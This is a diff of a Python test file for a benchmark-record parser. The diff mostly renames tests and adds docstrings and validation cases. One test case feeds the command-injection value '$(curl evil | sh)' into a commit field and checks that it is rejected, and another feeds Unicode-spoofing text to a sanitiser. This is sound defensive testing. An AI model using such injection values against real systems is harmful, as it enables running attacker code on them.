@@ -46,7 +46,8 @@ def read(data: bytes) -> tuple[list[int], list[str]]:
 
 
 @given(st.integers(0, len(WHOLE)))
-def test_a_record_cut_at_any_byte_reads_as_the_lines_before_the_cut(length: int) -> None:
+def test_a_cut_record_reads_until_the_cut(length: int) -> None:
+    """A record cut at any byte reads as the lines before the cut."""
     lines = WHOLE[:length].count(b"\n")
     try:
         assert read(WHOLE[:length]) == ([*range(1, max(lines, 1))], [])
@@ -64,7 +65,7 @@ def test_the_path_says_whose_record_it_is() -> None:
     assert not is_file_of_machine(Path("A", *path.parts[1:])) | is_file_of_machine(Path("a", "A", path.name))
 
 
-def test_what_a_line_need_not_say_is_nothing_by_default() -> None:
+def test_what_a_line_omits_has_its_default() -> None:
     for model in Facts.__subclasses__():
         others = [(name, field) for name, field in model.model_fields.items() if not field.is_required()]
         found = {name: field.get_default(call_default_factory=True) for name, field in others}
@@ -78,6 +79,7 @@ def test_what_a_line_need_not_say_is_nothing_by_default() -> None:
         ('{"schema": 6, more}', "is damaged"),
         (json.dumps(START | {"timing": {"long_seconds": math.inf}}), "timing.long_seconds: Input should be a finite"),
         (json.dumps(START | {"start_seconds": 1e9}), "start_seconds: Input should be less"),
+        (json.dumps(START | {"machine": START["machine"] | {"cpu_quota": -1.0}}), "machine.cpu_quota: Input should"),
         (json.dumps(START | {"commit": "$(curl evil | sh)"}), "commit: String should match pattern"),
         (json.dumps(START | {"ceilings": {"flops_per_second": 0}}), "ceilings.flops_per_second: Input should be great"),
         (json.dumps(START | {"smoke": True}), "is a smoke record of the profile torch-1, and does not belong here"),
@@ -86,18 +88,19 @@ def test_what_a_line_need_not_say_is_nothing_by_default() -> None:
         (json.dumps(START | {"backend": None}) + "\n" + json.dumps(RESULT), "backend is missing, and a case was meas"),
     ],
 )  # fmt: skip
-def test_what_no_record_says_is_refused_with_the_reason(text: str, why: str) -> None:
+def test_an_impossible_record_is_refused_with_reason(text: str, why: str) -> None:
     with pytest.raises(UserError, match=f"^here(:1)?: {why}"):
         parse_file("box", PLACE, f"{text}\n".encode(), False, "here")
 
 
-def test_a_text_of_a_record_is_one_line_of_what_can_be_printed() -> None:
+def test_a_records_text_is_one_printable_line() -> None:
+    """A text of a record is one line of what can be printed."""
     hostile = START | {"versions": {"torch": "1\u202e" + " " * 90 + "Commit  good\u3164", "long": "x" * 9000}}
     record, _ = parse_file("box", PLACE, f"{json.dumps(hostile)}\n".encode(), False, "here")
     assert record.start.versions == {"torch": "1 Commit good", "long": "x" * 499 + "…"}
 
 
-def test_a_reason_with_half_a_letter_is_written_and_read() -> None:
+def test_a_reason_with_half_a_letter_survives() -> None:
     """As of a file whose name is in another encoding."""
     made = make_lines(status="failed", reason="no file a\udcffb", number=1)[1]
     assert append_line(PLACE, Result, made).reason == "no file a?b"
@@ -117,14 +120,16 @@ def test_a_reason_with_half_a_letter_is_written_and_read() -> None:
         ({"blocks": [{"joules": {"a": 1.0}}, {"joules": {"b": 1.0}}]}, "the case is incomplete"),
     ],
 )
-def test_a_case_that_nothing_could_be_made_of_is_not_written(facts: dict[str, Any], line: str) -> None:
+def test_a_case_without_facts_is_not_written(facts: dict[str, Any], line: str) -> None:
+    """A case that nothing could be made of is not written."""
     with pytest.raises(UserError, match=re.escape(line)):
         append_line(PLACE, Result, make_lines(**facts)[1])
     assert not PLACE.exists()
 
 
 @pytest.mark.parametrize("is_there", [False, True])
-def test_a_line_that_the_disk_refuses_leaves_the_record_as_it_was(is_there: bool) -> None:
+def test_a_refused_line_leaves_the_record(is_there: bool) -> None:
+    """A line that the disk refuses leaves the record as it was."""
     path = Path("results/records") / PLACE
     if is_there:
         append_line(path, Start, START)
@@ -140,10 +145,11 @@ def test_a_line_that_the_disk_refuses_leaves_the_record_as_it_was(is_there: bool
     assert path.exists() == is_there
 
 
-@pytest.mark.parametrize("spoilt", [b"\xff{", b"{}"])
-def test_a_description_that_is_damaged_is_said_once_and_written_anew(
-    spoilt: bytes, capsys: pytest.CaptureFixture[str]
-) -> None:
+@pytest.mark.parametrize(
+    "spoilt", [b"\xff{", b"{}", json.dumps(description(not_measurable={"tpu": " "})).encode()], ids=range(3)
+)
+def test_a_damaged_description_is_written_anew(spoilt: bytes, capsys: pytest.CaptureFixture[str]) -> None:
+    """A description that is damaged is said once and written anew."""
     path = Path("results/records/box/machine.json")
     write_box()
     path.write_bytes(spoilt)
@@ -158,7 +164,7 @@ def test_a_description_that_is_damaged_is_said_once_and_written_anew(
     assert path.stat().st_mtime_ns == written
 
 
-def test_where_no_record_can_be_used_one_line_ends_it() -> None:
+def test_no_usable_record_is_one_line() -> None:
     for what in ("none of 1 record", "none of 2 records"):
         write_lines(*make_lines())
         for path in record_paths(False, "box"):
